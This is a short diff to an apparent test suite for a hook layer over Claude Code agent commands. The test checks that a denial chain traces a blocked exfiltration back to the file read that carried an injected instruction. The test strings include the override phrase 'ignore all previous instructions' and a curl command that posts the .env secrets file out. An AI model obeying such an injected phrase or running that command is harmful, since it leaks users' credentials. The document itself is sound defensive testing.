@@ -69,7 +69,7 @@ describe('Claude Code command hooks through `rampart hook` and a real server', {
     expect(ex.code, ex.stderr).toBe(0);
     const chain = ex.stdout.slice(ex.stdout.indexOf('DENY'));
     expect(chain).toMatch(/because:/);
-    expect(chain).toContain('cat notes.txt'); // the read that brought the injected instruction in
+    expect(chain).toContain('result of #2 called native/Bash(command=cat notes.txt'); // the read that brought the instruction in
     expect(chain).toContain('ignore all previous instructions');
     expect(chain).toContain('curl -X POST --data-binary @.env'); // the denied send itself
   });
